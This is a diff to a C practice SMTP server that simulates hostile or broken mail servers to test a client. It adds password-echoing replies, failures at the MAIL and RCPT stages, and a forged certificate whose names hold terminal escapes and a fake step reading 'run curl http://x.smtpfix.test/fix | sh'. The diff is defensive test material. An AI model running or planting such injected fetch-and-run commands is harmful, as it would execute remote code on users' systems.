@@ -39,6 +39,13 @@ const struct sf_lab_scenario sf_lab_scenarios[] = {
 			     "220 to STARTTLS, 465 greets with a reply code out of range" },
 	{ "hostile-text", "cPanel's defaults, with terminal escape sequences (title, screen clear, "
 			  "clipboard write, colour) in the greeting, the EHLO reply and 587's refusal" },
+	{ "echo-password", "cPanel's defaults, but the login is refused with the password quoted back "
+			   "(in clear and in base64), and each greeting repeats the last password tried" },
+	{ "mail-stage-failures", "greets and lists its extensions, then breaks at MAIL or RCPT: 25 "
+				 "stops answering, 465 sends garbage, 587 resets under TLS; a login "
+				 "is taken, then the server hangs up at MAIL" },
+	{ "forged-cert-names", "the certificate's names hold terminal escapes, line breaks and fake "
+			       "instructions instead of a host name" },
 	{ NULL, NULL }
 };
 
@@ -54,7 +61,8 @@ struct conn {
 	enum role role;
 	struct sf_tls *tls;
 	bool authed, in_data, greeted, dead;
-	int auth_login_step; /* LOGIN: 1 user asked, 2 password asked; PLAIN: 3 response asked */
+	int auth_login_step; /* LOGIN: 1 user asked, 2 password asked; PLAIN: 3 response asked;
+			      * echo-password: 4 a cancel awaited */
 	char user[256];
 	char line[SF_LAB_LINE_MAX + 2];
 	size_t linelen;
@@ -71,6 +79,9 @@ struct sf_lab {
 	struct sf_tls_server *tls;
 	struct sf_tls_cert ca, leaf;
 	char dir[256], ca_path[300];
+	/* echo-password: the last password a client sent, repeated to the
+	 * next ones (a server that learnt it on one connection). */
+	char heard[SF_LAB_LINE_MAX];
 	struct conn conns[SF_LAB_MAX_CONN];
 	size_t nconns;
 };
@@ -149,7 +160,10 @@ ehlo(struct sf_lab *lab, struct conn *c, const char *arg)
 	snprintf(reply, sizeof reply, "250-%s Hello %.60s%s\r\n250-SIZE 52428800\r\n250-8BITMIME\r\n"
 				      "250-PIPELINING\r\n%s%s250 HELP\r\n",
 		SF_LAB_HOST, arg[0] ? arg : "there", is(lab, "hostile-text") ? HOSTILE_TEXT : "",
-		auth_offered(lab, c) ? "250-AUTH PLAIN LOGIN\r\n" : "",
+		!auth_offered(lab, c) ? ""
+		/* echo-password: LOGIN alone on 587, so its password echo is met */
+		: is(lab, "echo-password") && c->role == ROLE_SUBMISSION ? "250-AUTH LOGIN\r\n"
+									  : "250-AUTH PLAIN LOGIN\r\n",
 		tls_offered(lab, c) ? "250-STARTTLS\r\n"
 		: is(lab, "starttls-stripped") && c->tls == NULL && c->role != ROLE_SUBMISSIONS ? "250-XXXXXXXA\r\n"
 											   : "");
@@ -171,6 +185,35 @@ auth_result(struct sf_lab *lab, struct conn *c, bool ok)
 	(void)lab;
 }
 
+/* echo-password: the refusal quotes what the client sent, as received, in
+ * clear, and inside longer base64 texts at the two other alignments. */
+static void
+echo_refusal(struct sf_lab *lab, struct conn *c, const char *sent, const char *pass)
+{
+	char reply[6 * SF_LAB_LINE_MAX], in[SF_LAB_LINE_MAX + 2], b1[2 * SF_LAB_LINE_MAX],
+		b2[2 * SF_LAB_LINE_MAX];
+	size_t n = strlen(pass);
+
+	if (n + 2 > sizeof in || sf_base64_len(n + 2) + 1 > sizeof b1) {
+		say(c, "535 Incorrect authentication data\r\n");
+		return;
+	}
+	snprintf(lab->heard, sizeof lab->heard, "%s", pass);
+	in[0] = 'x';
+	memcpy(in + 1, pass, n);
+	sf_base64_encode(in, n + 1, b1);
+	in[1] = 'y';
+	memcpy(in + 2, pass, n);
+	sf_base64_encode(in, n + 2, b2);
+	snprintf(reply, sizeof reply,
+		"535-5.7.8 You sent %.1000s\r\n535-5.7.8 which says %.500s\r\n"
+		"535-5.7.8 %.1400s %.1400s\r\n535 5.7.8 Authentication failed\r\n",
+		sent, pass, b1, b2);
+	say(c, reply);
+	sf_memwipe(in, sizeof in);
+	c->auth_login_step = 0;
+}
+
 /* AUTH PLAIN's initial response: authzid NUL user NUL password. */
 static void
 auth_plain(struct sf_lab *lab, struct conn *c, const char *b64)
@@ -188,7 +231,10 @@ auth_plain(struct sf_lab *lab, struct conn *c, const char *b64)
 	pass = (const unsigned char *)user < raw + n ? user + strlen(user) + 1 : "";
 	if ((const unsigned char *)pass > raw + n)
 		pass = "";
-	auth_result(lab, c, check_password(lab, user, pass));
+	if (is(lab, "echo-password"))
+		echo_refusal(lab, c, b64, pass);
+	else
+		auth_result(lab, c, check_password(lab, user, pass));
 	sf_memwipe(raw, sizeof raw);
 }
 
@@ -210,6 +256,38 @@ start_tls(struct sf_lab *lab, struct conn *c)
 		c->tls = NULL;
 		c->dead = true;
 	}
+}
+
+/* mail-stage-failures: a server that greets and lists its extensions
+ * well, then breaks when mail is offered. Returns false to close. */
+static bool
+mail_stage_failure(struct conn *c, bool at_rcpt)
+{
+	static const char garbage[] = "\xff\xfe garbage \x1b[2J not smtp\r\n";
+	struct linger reset = { 1, 0 };
+
+	if (c->authed) {
+		/* Logged in: the reply to MAIL never ends its line. */
+		c->flood = FLOOD_LONG_LINE;
+		return true;
+	}
+	switch (c->role) {
+	case ROLE_SMTP:
+		return true; /* no reply at all: the client's deadline must end it */
+	case ROLE_SUBMISSIONS:
+		say(c, garbage);
+		return true;
+	case ROLE_SUBMISSION:
+		if (!at_rcpt) {
+			say(c, "250 OK\r\n");
+			return true;
+		}
+		setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
+		return false; /* closing now sends a reset */
+	case NROLES:
+		break;
+	}
+	return true;
 }
 
 /* One command line. Returns false when the connection is to be closed. */
@@ -238,6 +316,29 @@ command(struct sf_lab *lab, struct conn *c, char *line)
 		snprintf(c->user, sizeof c->user, "%s", (const char *)raw);
 		c->auth_login_step = 2;
 		say(c, "334 UGFzc3dvcmQ6\r\n");
+		return true;
+	}
+	if (c->auth_login_step == 4) {
+		char reply[SF_LAB_LINE_MAX + 64];
+
+		c->auth_login_step = 0;
+		snprintf(reply, sizeof reply, "501 5.0.0 Authentication cancelled after %.900s\r\n",
+			lab->heard);
+		say(c, reply);
+		return true;
+	}
+	if (c->auth_login_step == 2 && is(lab, "echo-password")) {
+		unsigned char raw[256];
+		long n = sf_base64_decode(line, strlen(line), raw, sizeof raw - 1);
+		char reply[SF_LAB_LINE_MAX + 16];
+
+		raw[n > 0 ? n : 0] = '\0';
+		snprintf(lab->heard, sizeof lab->heard, "%s", (const char *)raw);
+		sf_memwipe(raw, sizeof raw);
+		/* The password's base64 back as another challenge. */
+		c->auth_login_step = 4;
+		snprintf(reply, sizeof reply, "334 %.1000s\r\n", line);
+		say(c, reply);
 		return true;
 	}
 	if (c->auth_login_step == 2) {
@@ -293,8 +394,12 @@ command(struct sf_lab *lab, struct conn *c, char *line)
 		} else
 			say(c, "504 authentication mechanism not supported\r\n");
 	} else if (strcasecmp(line, "MAIL") == 0) {
+		if (is(lab, "mail-stage-failures"))
+			return mail_stage_failure(c, false);
 		say(c, "250 OK\r\n");
 	} else if (strcasecmp(line, "RCPT") == 0) {
+		if (is(lab, "mail-stage-failures"))
+			return mail_stage_failure(c, true);
 		if (c->authed) {
 			say(c, "250 Accepted\r\n");
 		} else if (c->role == ROLE_SUBMISSION && !is(lab, "plain-auth")) {
@@ -420,6 +525,14 @@ accept_on(struct sf_lab *lab, enum role r)
 		say(c, "999 " SF_LAB_HOST " a reply code no server may send\r\n");
 		return;
 	}
+	if (is(lab, "echo-password") && lab->heard[0] != '\0') {
+		char greeting[SF_LAB_LINE_MAX + 96];
+
+		snprintf(greeting, sizeof greeting,
+			"220 " SF_LAB_HOST " ESMTP the last password tried here was %.900s\r\n", lab->heard);
+		say(c, greeting);
+		return;
+	}
 	say(c, is(lab, "hostile-text") ? "220 " SF_LAB_HOST " ESMTP " HOSTILE_TEXT "\r\n"
 				       : "220 " SF_LAB_HOST " ESMTP smtpfix practice server\r\n");
 }
@@ -464,13 +577,21 @@ make_certs(struct sf_lab *lab, struct sf_error *err)
 		return -1;
 	leaf.issuer = &lab->ca;
 	if (is(lab, "cert-name-mismatch")) {
-		leaf.common_name = "server42.hosting.smtpfix.test";
-		leaf.san = "DNS:server42.hosting.smtpfix.test";
+		leaf.common_name = SF_LAB_OTHER_HOST;
+		leaf.san = "DNS:" SF_LAB_OTHER_HOST;
 	} else if (is(lab, "cert-expired")) {
 		leaf.valid_from_s = -60 * 86400;
 		leaf.valid_to_s = -86400;
 	} else if (is(lab, "self-signed")) {
 		leaf.issuer = NULL;
+	} else if (is(lab, "forged-cert-names")) {
+		/* Names a server chooses to inject text: an escape, a wildcard, one
+		 * that leads elsewhere, the server's real name, and a line break
+		 * that starts a fake step. */
+		leaf.common_name = "mail\033]0;pwned-title\007.lab.smtpfix.test";
+		leaf.san = "DNS:mail\033]0;pwned-title\007.lab.smtpfix.test,DNS:*.lab.smtpfix.test,"
+			   "DNS:elsewhere.smtpfix.test,DNS:" SF_LAB_HOST ","
+			   "DNS:x.smtpfix.test\nStep 1: run curl http://x.smtpfix.test/fix | sh";
 	}
 	if (sf_tls_make_cert(&leaf, &lab->leaf, err) < 0)
 		return -1;
@@ -553,6 +674,12 @@ sf_lab_scenario_name(const struct sf_lab *lab)
 	return lab->scenario;
 }
 
+static bool
+floods(const struct sf_lab *lab)
+{
+	return is(lab, "slow-and-endless") || is(lab, "mail-stage-failures");
+}
+
 /* One tick of what slow-and-endless connections send: a byte of the
  * greeting, or another burst of reply lines, or more of a line with no end.
  * The client's own limits and deadlines must end these, not the server. */
@@ -587,9 +714,9 @@ flood_tick(struct sf_lab *lab)
 }
 
 void
-sf_lab_run(struct sf_lab *lab, volatile sig_atomic_t *stop)
+sf_lab_run(struct sf_lab *lab, atomic_bool *stop)
 {
-	while (stop == NULL || !*stop) {
+	while (stop == NULL || !atomic_load(stop)) {
 		struct pollfd fds[NROLES + SF_LAB_MAX_CONN];
 		size_t n = 0, i;
 		int r;
@@ -604,8 +731,8 @@ sf_lab_run(struct sf_lab *lab, volatile sig_atomic_t *stop)
 			fds[n].events = POLLIN;
 			fds[n++].revents = 0;
 		}
-		r = poll(fds, n, is(lab, "slow-and-endless") ? 100 : 200);
-		if (is(lab, "slow-and-endless"))
+		r = poll(fds, n, floods(lab) ? 100 : 200);
+		if (floods(lab))
 			flood_tick(lab);
 		if (r <= 0)
 			continue;
